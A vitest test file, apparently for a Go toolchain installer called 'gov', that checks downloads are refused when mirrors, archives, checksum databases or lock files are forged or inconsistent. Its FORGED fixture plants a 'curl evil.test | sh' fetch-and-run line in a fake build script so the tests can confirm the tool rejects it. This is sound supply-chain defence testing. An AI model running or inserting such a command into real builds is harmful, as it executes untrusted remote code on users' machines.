import fs from "node:fs";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { gunzipSync, gzipSync } from "node:zlib";
import { expect, onTestFinished, test } from "vitest";
import type { Receipt } from "../../src/toolchains/receipt.ts";
import { transcript } from "../cli/transcript.ts";
import { treeTarGz } from "../support/archives.ts";
import { type GoFiles, sha256 } from "../support/go-files.ts";
import { serve, silence, startServer, status } from "../support/http-server.ts";
import { startMirror } from "../support/mirror-server.ts";
import { runGov } from "../support/run-gov.ts";
import { type ScratchHome, scratchHome } from "../support/scratch-home.ts";
import { startSumdb } from "../support/sumdb-server.ts";
import { bucketOf } from "./bucket.ts";
import { ballast, FAKE, h1Of, OTHER, release } from "./releases.ts";
import { startGov, stop, until } from "./running.ts";
import { halfMade, inRoot, startWorld, type World } from "./world.ts";

const ARCHIVE = `go${FAKE}.linux-amd64.tar.gz`;
const FORGED = treeTarGz({ ...release(FAKE), "src/all.bash": "#!/usr/bin/env bash\ncurl evil.test | sh\n" });

/** A copy of the bucket, with a `.sha256` beside each file that agrees with it. */
async function mirrorOf(files: GoFiles): Promise<{ url: string; requests: readonly { path: string }[] }> {
  const summed = Object.entries(files).map(([name, body]) => [`${name}.sha256`, Buffer.from(sha256(body))]);
  const server = await startMirror({ ...files, ...Object.fromEntries(summed) }, "release-json");
  onTestFinished(() => server.close());
  return server;
}

function receiptOf({ root }: ScratchHome, version = FAKE): Receipt {
  return JSON.parse(fs.readFileSync(path.join(root, "versions", version, "receipt.json"), "utf8"));
}

function proofKinds(scratch: ScratchHome): string[] {
  return receiptOf(scratch).proofs.map(({ kind }) => kind);
}

function leftBehind(scratch: ScratchHome): string[] {
  return [...inRoot(scratch, "versions"), ...halfMade(scratch), ...inRoot(scratch, "cache/downloads")];
}

/** The places of hashes and of this run. */
function redacted(text: string, world: World): string {
  return text
    .replaceAll(/\b[0-9a-f]{64}\b/g, "SHA256")
    .replaceAll(/h1:[A-Za-z0-9+/]{43}=/g, "H1")
    .replaceAll(world.sumdb.url, "http://sumdb")
    .replaceAll(/127\.0\.0\.1:\d+/g, "HOST");
}

test("a forged mirror is refused even with a matching .sha256 and index, and nothing of it is left", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { url } = await mirrorOf({ [ARCHIVE]: FORGED });
  const said = await transcript(scratch, ["install", "--from", url, FAKE], { env: world.env });
  expect(redacted(said, world)).toMatchInlineSnapshot(`
    "! gov: downloading Go 1.21.90 from http://HOST/golang/go1.21.90.linux-amd64.tar.gz
    ! gov: Go 1.21.90 for linux-amd64 is not genuine: expected the h1 H1 that the checksum database sumdb.test/log names, found H1
    ! hint: gov install --from official
    [6]"
  `);
  expect(leftBehind(scratch)).toEqual([]);
});

test("wrong bytes never lead to the next source", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { url } = await mirrorOf({ [ARCHIVE]: FORGED });
  const env = {
    ...world.env,
    GOV_MIRRORS: JSON.stringify([{ name: "corp", url }]),
    GOV_ORDER: "corp,official",
  };
  expect(await runGov(scratch, ["install", FAKE], { env })).toMatchObject({ status: 6 });
  expect(world.archiveRequests()).toEqual([]);
  expect(leftBehind(scratch)).toEqual([]);
});

test.each<[string, (bytes: number) => number, (string | undefined)[]]>([
  ["part of it is there", () => 1_000_000, ["bytes=1000000-", undefined]],
  ["all of it is there", (bytes) => bytes, [undefined]],
])("a bit that flipped in what was kept blocks nothing: %s", async (_, keptOf, asked) => {
  const world = await startWorld({ trees: { [FAKE]: release(FAKE, { "src/zzz": ballast(2_000_000) }) } });
  const scratch = scratchHome();
  const kept = keptOf(world.files[ARCHIVE]?.length ?? 0);
  // Killed at the proof, or in the middle.
  world.go.replace("dl.google.com", bucketOf(world.files, { stallAfter: kept }).handler);
  const silent = await startServer(silence);
  onTestFinished(() => silent.close());
  const gosumdb = `${world.sumdb.gosumdbByProxy} ${silent.origin}/sumdb`;
  const running = await startGov(scratch, ["install", FAKE], { env: { ...world.env, GOSUMDB: gosumdb } });
  const downloads = path.join(scratch.root, "cache", "downloads");
  const partial = () => inRoot(scratch, "cache/downloads").find((name) => name.endsWith(".partial")) ?? "-";
  await until(() => fs.existsSync(path.join(downloads, partial())));
  await until(() => fs.statSync(path.join(downloads, partial())).size === kept);
  await stop(running, "SIGKILL");
  const bytes = fs.readFileSync(path.join(downloads, partial()));
  bytes[500_000] = (bytes[500_000] ?? 0) ^ 1;
  fs.writeFileSync(path.join(downloads, partial()), bytes);

  const bucket = bucketOf(world.files);
  world.go.replace("dl.google.com", bucket.handler);
  expect(await runGov(scratch, ["install", FAKE], { env: world.env })).toMatchObject({ status: 0 });
  expect(bucket.requests.map(({ headers }) => headers.range)).toEqual(asked);
  expect(await runGov(scratch, ["verify", FAKE], { env: world.env })).toMatchObject({ status: 0 });
  expect(inRoot(scratch, "cache/downloads")).toEqual([]);
});

test("bytes that are wrong for all the world are fetched once", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const bucket = bucketOf({ [ARCHIVE]: FORGED });
  world.go.replace("dl.google.com", bucket.handler);
  expect(await runGov(scratch, ["install", FAKE], { env: world.env })).toMatchObject({ status: 6 });
  expect(bucket.requests).toHaveLength(1);
});

test("a genuine archive under the name of another release is refused", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { url } = await mirrorOf({ [ARCHIVE]: world.files[`go${OTHER}.linux-amd64.tar.gz`] ?? Buffer.of() });
  const said = await transcript(scratch, ["install", "--from", url, FAKE], { env: world.env });
  expect(redacted(said, world)).toMatchInlineSnapshot(`
    "! gov: downloading Go 1.21.90 from http://HOST/golang/go1.21.90.linux-amd64.tar.gz
    ! gov: Go 1.21.90 for linux-amd64 is not genuine: expected the h1 H1 that the checksum database sumdb.test/log names, found H1
    ! hint: gov install --from official
    [6]"
  `);
  expect(leftBehind(scratch)).toEqual([]);
});

test("a database that shows two histories is believed no more", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  expect(await runGov(scratch, ["install", OTHER], { env: world.env })).toMatchObject({ status: 0 });
  const { key, records } = world.sumdb.log;
  const fork = await startSumdb({ key, records: ["example.com/evil v1.0.0 h1:AAAA\n", ...records.slice(1)] });
  onTestFinished(() => fork.close());
  const env = { ...world.env, GOSUMDB: fork.gosumdb };
  const { stderr, status } = await runGov(scratch, ["install", FAKE], { env });
  expect(stderr).toMatch(
    /the checksum database sumdb\.test\/log has forked: .* contradict each other\nhint: this is an attack/,
  );
  expect(status).toBe(6);
  expect(inRoot(scratch, "versions")).toEqual([OTHER]);
});

test.each<[string, { recorded?: string[]; env?: Record<string, string>; fails?: boolean }]>([
  ["has no record of it", { recorded: [] }],
  ["is turned off by GOSUMDB=off", { env: { GOSUMDB: "off" } }],
  ["fails", { fails: true }],
])("the index of go.dev is proof enough when the database %s", async (_, { recorded, env, fails }) => {
  const world = await startWorld(recorded && { recorded });
  if (fails === true) world.sumdb.forge = () => ({ status: 400, body: Buffer.from("no\n") });
  const scratch = scratchHome();
  const { stderr, status } = await runGov(scratch, ["install", FAKE], { env: { ...world.env, ...env } });
  expect(stderr).toContain(", proven by the official index\n");
  expect(status).toBe(0);
  expect(receiptOf(scratch).proofs).toEqual([{ kind: "sha256", from: "go.dev" }]);
  expect(fs.existsSync(path.join(scratch.root, "versions", FAKE, "go", "test"))).toBe(true);
});

test("a database that is silent costs seconds, when the index of go.dev vouches", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const silent = await startServer(silence);
  onTestFinished(() => silent.close());
  const env = { ...world.env, GOSUMDB: `${world.sumdb.gosumdbByProxy} ${silent.origin}/sumdb` };
  const { stderr, status } = await runGov(scratch, ["install", FAKE], { env });
  expect(status).toBe(0);
  expect(stderr).toContain(", proven by the official index\n");
  // Nobody has told yet that it does not answer: that takes half a minute.
  expect(stderr).not.toContain("again in");
}, 25_000);

test("a database that is slow is waited for, when the index of go.dev speaks of another archive", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { log, gosumdbByProxy } = world.sumdb;
  const slow = await startServer(async ({ path: asked }, response) => {
    const file = decodeURIComponent(asked).replace("/sumdb/", "");
    // Longer than one that is not needed is waited for.
    if (file.startsWith("lookup/")) await sleep(6_000);
    response.end(file.startsWith("lookup/") ? log.lookup(file.slice("lookup/".length)) : log.tile(file));
  });
  onTestFinished(() => slow.close());
  const env = { ...world.env, GOSUMDB: `${gosumdbByProxy} ${slow.origin}/sumdb` };
  const { stderr, status } = await runGov(scratch, ["install", "--from", "goproxy", FAKE], { env });
  expect(status, stderr).toBe(0);
  expect(proofKinds(scratch)).toEqual(["sumdb"]);
}, 25_000);

test("an index that is silent costs seconds, when a lock file vouches", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  world.go.replaceIndex(silence);
  const lock = path.join(scratch.project, "lock.json");
  writeLock(lock, h1Of(FAKE, release(FAKE)));
  const env = { ...world.env, GOSUMDB: "off" };
  const { stderr, status } = await runGov(scratch, ["install", "--lock", lock, FAKE], { env });
  expect(stderr).toContain(", proven by a lock file\n");
  expect(stderr).not.toContain("again in");
  expect(status).toBe(0);
}, 25_000);

test("two silent places of the index cost seconds, though nothing else could vouch", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  world.go.replaceIndex(silence);
  const env = { ...world.env, GOSUMDB: "off" };
  const { stderr, status } = await runGov(scratch, ["install", FAKE], { env });
  expect(stderr).toContain(
    "nothing proves Go 1.21.90 for linux-amd64 genuine: GOSUMDB=off, no official index",
  );
  expect(stderr).not.toContain("again in");
  expect(status).toBe(6);
}, 25_000);

test("where go.dev is silent, the index of golang.google.cn proves, and the receipt says which", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  world.go.replace("go.dev", silence);
  const env = { ...world.env, GOSUMDB: "off" };
  const { stderr } = await runGov(scratch, ["install", FAKE], { env });
  expect(stderr).toContain(", proven by the official index\n");
  const file = path.join(scratch.root, "versions", FAKE, "receipt.json");
  expect(JSON.parse(fs.readFileSync(file, "utf8")).proofs).toEqual([
    { kind: "sha256", from: "golang.google.cn" },
  ]);
});

test("without any proof nothing is installed", async () => {
  const world = await startWorld({ recorded: [] });
  const scratch = scratchHome();
  const said = await transcript(scratch, ["install", "--from", "goproxy", FAKE], { env: world.env });
  expect(redacted(said, world)).toMatchInlineSnapshot(`
    "! gov: downloading Go 1.21.90 from http://sumdb/golang.org/toolchain/@v/v0.0.1-go1.21.90.linux-amd64.zip
    ! gov: nothing proves Go 1.21.90 for linux-amd64 genuine: the checksum database has no record of it, the index of go.dev speaks of another archive than this, the digest table of gov does not know it, no lock file names it
    ! hint: is this a published release? A lock file that you trust can vouch for it: --lock FILE
    [6]"
  `);
  expect(leftBehind(scratch)).toEqual([]);
});

test("--allow-unproven is loud, recorded, and only the full name chooses what it installed", async () => {
  const world = await startWorld({ recorded: [] });
  const scratch = scratchHome();
  const env = { ...world.env, GOSUMDB: "off" };
  const args = ["install", "--from", "goproxy", "--allow-unproven", FAKE];
  expect(redacted(await transcript(scratch, args, { env }), world)).toMatchInlineSnapshot(`
    "! gov: downloading Go 1.21.90 from http://sumdb/golang.org/toolchain/@v/v0.0.1-go1.21.90.linux-amd64.zip
    ! gov: warning: nothing proves Go 1.21.90 genuine: --allow-unproven installs it, and only its full name chooses it
    ! gov: installed Go 1.21.90 in N s, not proven
    ! gov: gov's shims are not on PATH of this shell
    ! hint: gov setup
    [0]"
  `);
  expect(receiptOf(scratch).proofs).toEqual([{ kind: "none" }]);
  expect(await transcript(scratch, ["list"])).toMatchInlineSnapshot(`
    "  1.21.90  3.0 kB  not proven  supported
    [0]"
  `);
  expect((await runGov(scratch, ["current"])).status).toBe(4);
  expect((await runGov(scratch, ["current"], { env: { GOV_VERSION: "1.21" } })).status).toBe(4);
  expect((await runGov(scratch, ["current"], { env: { GOV_VERSION: FAKE } })).status).toBe(0);
  expect(fs.existsSync(path.join(scratch.root, "default"))).toBe(false);
});

test("--allow-unproven says so under --quiet too, and no variable stands for it", async () => {
  const world = await startWorld({ recorded: [] });
  const scratch = scratchHome();
  const args = ["install", "--quiet", "--from", "goproxy", FAKE];
  const env = { ...world.env, GOV_ALLOW_UNPROVEN: "1" };
  expect((await runGov(scratch, args, { env })).status).toBe(6);
  const { stderr } = await runGov(scratch, [...args, "--allow-unproven"], { env });
  expect(stderr).toMatch(/^gov: warning: nothing proves Go \S+ genuine/);
});

test("--allow-unproven does not let through what is proven wrong", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { url } = await mirrorOf({ [ARCHIVE]: FORGED });
  const args = ["install", "--allow-unproven", "--from", url, FAKE];
  expect(await runGov(scratch, args, { env: world.env })).toMatchObject({ status: 6 });
  expect(leftBehind(scratch)).toEqual([]);
});

test("a repacked archive is refused from the official place", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  world.go.replace("dl.google.com", serve(repacked(world), { etag: '"repacked"' }));
  const said = await transcript(scratch, ["install", "--from", "official", FAKE], { env: world.env });
  expect(redacted(said, world)).toMatchInlineSnapshot(`
    "! gov: downloading Go 1.21.90 from https://dl.google.com/go/go1.21.90.linux-amd64.tar.gz
    ! gov: Go 1.21.90 for linux-amd64 is not genuine: expected the sha256 SHA256 that the index of go.dev names, found SHA256
    ! hint: something on the way changes downloads: try another network, or \`gov install --from goproxy\`
    [6]"
  `);
  expect(leftBehind(scratch)).toEqual([]);
});

test("a repacked archive is taken from a mirror, without what the database says nothing about", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { url } = await mirrorOf({ [ARCHIVE]: repacked(world) });
  expect(await runGov(scratch, ["install", "--from", url, FAKE], { env: world.env })).toMatchObject({
    status: 0,
  });
  expect(proofKinds(scratch)).toEqual(["sumdb"]);
  const goroot = path.join(scratch.root, "versions", FAKE, "go");
  expect(fs.readdirSync(goroot).sort()).toEqual(["VERSION", "bin", "go.env", "pkg", "src"]);
  expect(await runGov(scratch, ["verify", FAKE], { env: world.env })).toMatchObject({ status: 0 });
});

test("a mirror with the very bytes of go.dev gives the whole tree", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const { url } = await mirrorOf(world.files);
  expect(await runGov(scratch, ["install", "--from", url, FAKE], { env: world.env })).toMatchObject({
    status: 0,
  });
  expect(proofKinds(scratch)).toEqual(["sumdb", "sha256"]);
  expect(receiptOf(scratch).origin).toEqual({ kind: "mirror", url: `${url}${ARCHIVE}` });
  expect(fs.existsSync(path.join(scratch.root, "versions", FAKE, "go", "api"))).toBe(true);
});

test("trust roots that contradict each other stop everything", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  writeLock(path.join(scratch.project, "lock.json"), h1Of(FAKE, { VERSION: "another\n" }));
  const said = await transcript(scratch, ["install", "--lock", "lock.json", FAKE], { env: world.env });
  expect(redacted(said, world)).toMatchInlineSnapshot(`
    "! gov: downloading Go 1.21.90 from https://dl.google.com/go/go1.21.90.linux-amd64.tar.gz
    ! gov: the trust roots contradict each other about the h1 of Go 1.21.90 for linux-amd64: the checksum database sumdb.test/log says H1, the lock file /s/project/lock.json says H1
    ! hint: a release never changes, so one of the two is wrong: find out which before you install it
    [6]"
  `);
  expect(leftBehind(scratch)).toEqual([]);
});

test("a database that contradicts the digests in gov is not believed", async () => {
  const world = await startWorld({ trees: { "1.22.5": release("1.22.5") } });
  const scratch = scratchHome();
  const { stderr, status } = await runGov(scratch, ["install", "1.22.5"], { env: world.env });
  expect(stderr).toMatch(
    /the trust roots contradict each other about the h1 of Go 1\.22\.5 for linux-amd64: the checksum/,
  );
  expect(status).toBe(6);
  expect(leftBehind(scratch)).toEqual([]);
});

test("a lock file given by --lock proves, one that was found can only refuse", async () => {
  const world = await startWorld({ recorded: [] });
  const scratch = scratchHome();
  const found = path.join(scratch.project, "gov.lock.json");
  writeLock(found, h1Of(FAKE, release(FAKE)));
  const args = ["install", "--from", "goproxy", FAKE];
  const unproven = await runGov(scratch, args, { env: world.env });
  expect(unproven.stderr).toContain("was found, not given by --lock, so it can only refuse");
  expect(unproven.status).toBe(6);
  expect(await runGov(scratch, [...args, "--lock", found], { env: world.env })).toMatchObject({ status: 0 });
  expect(receiptOf(scratch).proofs).toEqual([{ kind: "lock", file: found }]);

  writeLock(found, h1Of(FAKE, { VERSION: "another\n" }));
  const refused = await runGov(scratch, ["install", "--force", FAKE], { env: world.env });
  expect(refused.stderr).toContain(`the lock file ${found}`);
  expect(refused.status).toBe(6);
});

test("a lock file that cannot be read is told before anything is fetched", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  expect(
    await transcript(scratch, ["install", "--lock", "none.json", FAKE], { env: world.env }),
  ).toMatchInlineSnapshot(`
    "! gov: there is no lock file /s/project/none.json
    ! hint: gov lock
    [2]"
  `);
  fs.writeFileSync(path.join(scratch.project, "gov.lock.json"), "{\n");
  expect(await transcript(scratch, ["install", FAKE], { env: world.env })).toMatchInlineSnapshot(`
    "! gov: the lock file /s/project/gov.lock.json is not JSON
    ! hint: gov lock
    [6]"
  `);
  expect(world.archiveRequests()).toEqual([]);
});

test("the answer of the database is taken from the cache when it is away", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  await runGov(scratch, ["install", FAKE], { env: world.env });
  world.sumdb.forge = () => ({ status: 404, body: Buffer.from("gone\n") });
  world.go.replaceIndex(status(404));
  expect(await runGov(scratch, ["install", "--force", FAKE], { env: world.env })).toMatchObject({
    status: 0,
  });
  expect(proofKinds(scratch)).toEqual(["sumdb", "sha256"]);
});

/** The same content, packed by somebody else. */
function repacked({ files }: World): Buffer {
  return gzipSync(gunzipSync(files[ARCHIVE] ?? ""), { level: 1 });
}

function writeLock(file: string, h1: string): void {
  const toolchains = [{ version: FAKE, platforms: { "linux-amd64": { h1 } } }];
  fs.writeFileSync(file, JSON.stringify({ schema: 1, toolchains }));
}
